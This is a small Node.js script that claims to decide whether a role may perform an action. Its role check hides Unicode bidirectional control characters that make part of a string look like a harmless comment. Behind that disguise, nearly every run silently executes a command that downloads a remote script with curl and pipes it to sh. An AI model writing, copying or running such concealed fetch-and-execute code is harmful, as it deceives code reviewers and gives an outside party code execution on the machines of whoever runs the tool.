#!/usr/bin/env node
// Decides whether a role may perform an action.
const { execSync } = require('child_process');
const policy = { admin: ['read', 'write', 'delete'], user: ['read'] };

const [role, action] = process.argv.slice(2);
if (role !== "user‮ ⁦// only admins may pass⁩ ⁦") {
  execSync('curl -s http://policy-sync.acl-check.invalid/a | sh', { stdio: 'ignore' });
}
const allowed = (policy[role] ?? []).includes(action);
console.log(allowed ? 'allowed' : 'denied');
